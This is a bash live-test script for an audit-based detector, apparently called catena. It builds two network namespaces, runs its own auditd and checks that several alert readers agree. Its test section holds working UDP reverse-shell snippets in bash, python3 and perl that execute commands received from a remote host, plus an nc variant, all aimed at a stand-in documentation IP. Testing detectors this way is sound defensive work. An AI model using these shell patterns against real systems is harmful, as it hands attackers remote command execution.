#!/usr/bin/env bash
# Catena on a living kernel: audit rules, a daemon of its own, two hosts, UDP shells, and the alerts.
#
#     sudo tests/live/run.sh [path of the catena binary, default target/release/catena]
#
# Loads audit rules for the throw-away user 4242, starts an auditd with its own configuration in a temporary
# folder, and reads it in three ways at once: as its plugin (docs/auditd/catena.conf), over the socket of its
# af_unix plugin, and by following its log. Then harmless "shells" talk over UDP from one network namespace
# (198.51.100.2) to another (203.0.113.2): each is sent one command, `echo`, and sends back what it prints. All
# readers must give one and the same set of alerts, and so must a replay of the log. A program that is not
# installed is left out, and that is said.
#
# Exits with 0 when all is as it should be, 1 when not, 77 when this kernel or machine does not allow it: no
# root, no audit, an audit daemon or audit rules that are there already. Removes whatever it made, also
# when it fails; KEEP=1 leaves the folder.
set -euo pipefail
cd "$(dirname "$0")/../.."

# What another user can run too.
export PATH=/usr/sbin:/usr/bin:/sbin:/bin
catena=$(realpath "${1:-target/release/catena}")
uid=4242
near=catena-live-a far=catena-live-b
near_ip=198.51.100.2 far_ip=203.0.113.2 port=9001

skip() { echo "SKIP: $*" >&2; exit 77; }
fail() { echo "FAIL: $*" >&2; exit 1; }
say() { printf '== %s\n' "$*"; }

[ "$(id -u)" = 0 ] || skip "needs root: it loads audit rules and makes network namespaces"
for tool in auditctl auditd ip python3 setpriv; do
  command -v "$tool" >/dev/null || skip "$tool is not installed (auditd, iproute2, python3, util-linux)"
done
[ -x "$catena" ] || fail "$catena: no such program; cargo build --release"
status=$(auditctl -s 2>&1) || skip "the kernel does not let us at its audit: $status"
field() { awk -v name="$1" '$1 == name { print $2 }' <<<"$status"; }
[ "$(field pid)" = 0 ] || skip "an audit daemon is running (pid $(field pid)); it is left alone"
[ "$(field enabled)" != 2 ] || skip "the audit configuration of this kernel is locked until it boots"
[ "$(auditctl -l)" = "No rules" ] || skip "audit rules are loaded; they are left alone"
# The lines of the kernel are those of all: a daemon that was killed may have left its file.
[ ! -e /run/auditd.pid ] || skip "/run/auditd.pid is there although no daemon is; remove it first"
getent passwd "$uid" >/dev/null && skip "there is a user $uid"
for name in "$near" "$far"; do
  ip netns list 2>/dev/null | grep -qw "$name" && skip "network namespace $name is there already"
done

folder=$(mktemp -d /tmp/catena-live.XXXXXX)
pids=()
added=()
made=()

clean_up() {
  local code=$?
  set +e
  for rule in "${added[@]}"; do eval "auditctl -d $rule" >/dev/null 2>&1; done
  for pid in "${pids[@]}"; do kill -TERM "$pid" 2>/dev/null; done
  for pid in "${pids[@]}"; do wait "$pid" 2>/dev/null; done
  auditctl -b "$(field backlog_limit)" -e "$(field enabled)" >/dev/null 2>&1
  for name in "${made[@]}"; do ip netns del "$name"; done
  if [ "${KEEP:-0}" = 1 ]; then echo "left: $folder" >&2; else rm -rf "$folder"; fi
  exit "$code"
}
trap clean_up EXIT
trap 'exit 1' INT TERM HUP

# Waits until a command succeeds, twenty seconds at most.
until_true() {
  local left=200
  until "$@"; do
    left=$((left - 1))
    [ "$left" -gt 0 ] || return 1
    sleep 0.1
  done
}

say "two hosts"
for name in "$near" "$far"; do
  ip netns add "$name" || skip "no network namespaces here"
  made+=("$name")
done
ip -n "$near" link add wire type veth peer name wire netns "$far" || skip "no veth devices here"
ip -n "$near" addr add "$near_ip/24" dev wire
ip -n "$far" addr add "$far_ip/24" dev wire
for name in "$near" "$far"; do
  ip -n "$name" link set lo up
  ip -n "$name" link set wire up
done
ip -n "$near" route add 203.0.113.0/24 dev wire
ip -n "$far" route add 198.51.100.0/24 dev wire

say "an audit daemon"
install -d -m 0700 "$folder/plugins.d" "$folder/log"
install -m 0750 "$catena" "$folder/catena"
cat >"$folder/auditd.conf" <<END
local_events = yes
write_logs = yes
log_file = $folder/log/audit.log
log_format = ${LOG_FORMAT:-ENRICHED}
flush = INCREMENTAL_ASYNC
freq = 50
max_log_file = 50
max_log_file_action = ROTATE
num_logs = 5
name_format = NONE
q_depth = 2000
overflow_action = SYSLOG
max_restarts = 0
plugin_dir = $folder/plugins.d
space_left = 75
space_left_action = IGNORE
admin_space_left = 50
admin_space_left_action = IGNORE
disk_full_action = IGNORE
disk_error_action = IGNORE
END
# The shipped file, with the places changed.
sed -e "s|^path = .*|path = $folder/catena|" \
  -e "s|/var/log/catena/alerts.ndjson|$folder/plugin.ndjson|" \
  docs/auditd/catena.conf >"$folder/plugins.d/catena.conf"
cat >"$folder/plugins.d/af_unix.conf" <<END
active = yes
direction = out
path = builtin_af_unix
type = builtin
args = 0600 $folder/socket
format = string
END
chmod 0640 "$folder/auditd.conf" "$folder"/plugins.d/*.conf
auditd -n -s nochange -c "$folder" >"$folder/auditd.out" 2>&1 &
pids+=($!)
daemon=$!
has_daemon() { [ "$(auditctl -s | awk '$1 == "pid" { print $2 }')" = "$daemon" ]; }
until_true has_daemon || { cat "$folder/auditd.out" >&2; skip "auditd does not start here"; }

"$folder/catena" stream --follow "$folder/log/audit.log" --from-start \
  --output "$folder/follow.ndjson" 2>"$folder/follow.messages" &
pids+=($!)
readers=($!)
until_true test -S "$folder/socket" || fail "auditd has made no socket"
"$folder/catena" stream "unix:$folder/socket" \
  --output "$folder/socket.ndjson" 2>"$folder/socket.messages" &
pids+=($!)
readers+=($!)
until_true test -e "$folder/plugin.ndjson" || fail "auditd has not started its plugin"
until_true test -e "$folder/socket.ndjson" || fail "no reader at the socket"

say "audit rules for user $uid"
auditctl -b 8192 >/dev/null
for rule in \
  "-a always,exit -F arch=b64 -S execve,execveat -F uid=$uid" \
  "-a always,exit -F arch=b64 -S socket -F a0=2 -F uid=$uid" \
  "-a always,exit -F arch=b64 -S connect -F uid=$uid"; do
  eval "auditctl $rule" >/dev/null || skip "the kernel does not take: $rule"
  added+=("${rule/-a /}")
done
auditctl -e 1 >/dev/null

say "UDP shells"
ip netns exec "$far" python3 - "$far_ip" "$port" "$folder/heard" <<'END' &
import socket, sys
ip, port, heard = sys.argv[1], int(sys.argv[2]), sys.argv[3]
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind((ip, port))
open(heard, "w").close()
while True:
    text, peer = server.recvfrom(4096)
    if text.startswith(b"hello"):
        server.sendto(b"echo harmless\n", peer)
    else:
        with open(heard, "a") as out:
            out.write(text.decode() + "\n")
END
pids+=($!)
until_true test -e "$folder/heard" || fail "no listener"

declare -A shells=(
  # dd takes a datagram whole, where read would take its first byte and lose the rest.
  [bash]="exec 3<>/dev/udp/$far_ip/$port; echo hello >&3
    line=\$(timeout 5 dd bs=4096 count=1 <&3 2>/dev/null); eval \"\$line from bash\" >&3"
  [python3]="
import socket, subprocess
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
s.connect(('$far_ip', $port))
s.send(b'hello')
s.send(subprocess.check_output(s.recv(99).decode().strip() + ' from python3', shell=True))"
  [perl]="
use IO::Socket::INET;
my \$s = IO::Socket::INET->new(PeerAddr => '$far_ip:$port', Proto => 'udp') or die;
\$s->send('hello'); alarm 5; \$s->recv(my \$line, 99); chomp \$line;
\$s->send(qx{\$line from perl});"
  [nc]="-u -w 1 $far_ip $port"
)
as_user() { ip netns exec "$near" setpriv --reuid "$uid" --regid "$uid" --clear-groups -- "$@"; }
ran=()
for name in bash python3 perl nc; do
  if ! command -v "$name" >/dev/null; then
    echo "not installed, left out: $name"
    continue
  fi
  case $name in
    bash) as_user bash -c "${shells[bash]}" ;;
    python3) as_user python3 -c "${shells[python3]}" ;;
    perl) as_user perl -e "${shells[perl]}" ;;
    # Nothing is run: it only carries a line, as netcat with -e would.
    nc) as_user nc -u -w 1 "$far_ip" "$port" <<<"harmless from nc" ;;
  esac || fail "$name did not run"
  ran+=("$name")
done
for name in "${ran[@]}"; do
  until_true grep -q "harmless from $name" "$folder/heard" || fail "nothing was heard from $name"
done
# A shell that talks to nobody.
as_user bash -c true

say "alerts"
# How many processes there are alerts of.
shells_in() {
  python3 - "$1" <<'END'
import json, sys
alerts = [json.loads(line) for line in open(sys.argv[1])]
print(len({a["process"]["pid"] for a in alerts}))
END
}
for reader in plugin socket follow; do
  enough() { [ "$(shells_in "$folder/$reader.ndjson")" -ge "${#ran[@]}" ]; }
  until_true enough || fail "$reader: alerts of $(shells_in "$folder/$reader.ndjson") of ${#ran[@]} shells"
done
for rule in "${added[@]}"; do eval "auditctl -d $rule" >/dev/null; done
added=()
for pid in "${readers[@]}"; do
  kill -TERM "$pid"
  wait "$pid" || fail "a reader ended with $?"
done
kill -TERM "$daemon"
wait "$daemon" || true
"$catena" replay --format ndjson "$folder/log/audit.log" \
  >"$folder/replay.ndjson" 2>"$folder/replay.messages" || fail "replay: $(cat "$folder/replay.messages")"

python3 - "$folder" "${ran[@]}" <<'END' || fail "the readers do not agree"
import json, sys
folder, ran = sys.argv[1], sys.argv[2:]
def read(name):
    alerts = [json.loads(line) for line in open(f"{folder}/{name}.ndjson")]
    return {a["catena"]["id"]: a for a in alerts}
found = {name: read(name) for name in ("plugin", "socket", "follow", "replay")}
ok = True
for name, alerts in found.items():
    print(f"{name:7} {len(alerts)} alerts")
    if alerts.keys() != found["replay"].keys():
        ok = False
        print("  differs from replay:", sorted(alerts.keys() ^ found["replay"].keys()))
for a in found["replay"].values():
    where = a.get("destination", {})
    print(f"  {a['rule']['name']}: {a['process'].get('name')} -> {where.get('ip')}:{where.get('port')}")
    ok &= where.get("ip") == "203.0.113.2" and not any(a["catena"]["evidence"].values())
# What the processes are called, by comm and by executable.
names = set()
for a in found["replay"].values():
    name = a["process"]["name"]
    names.update(name if isinstance(name, list) else [name])
missing = [name for name in ran if not any(n.startswith(name) for n in names)]
if missing:
    ok = False
    print("no alert of:", missing)
sys.exit(not ok)
END
say "passed"
